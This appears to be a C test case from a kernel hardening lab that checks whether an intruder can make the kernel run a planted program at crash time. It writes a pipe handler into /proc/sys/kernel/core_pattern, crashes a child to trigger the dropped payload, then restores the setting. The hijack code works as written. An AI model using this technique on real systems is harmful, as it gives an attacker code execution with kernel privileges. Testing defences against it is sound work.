// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G1, G3. Makes the kernel run a program of the intruder at the next crash:
 * /proc/sys/kernel/core_pattern. Source: 6.12 survey, "user-mode helpers". Control: the
 * crash of a child runs it.
 */
#define _GNU_SOURCE
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

static const char pattern[] = "/proc/sys/kernel/core_pattern";

void attack(void)
{
	const char *mark = "/tmp/lab-core-ran";
	pid_t pid;

	unlink(mark);
	drop("foreign/payload", "/tmp/lab-core");
	write_text(pattern, "|/tmp/lab-core /tmp/lab-core-ran");
	pid = fork();
	if (pid == 0)
		abort();
	waitpid(pid, NULL, 0);
	write_text(pattern, "core");
	judge(file_begins_soon(mark, FOREIGN_TEXT));
}
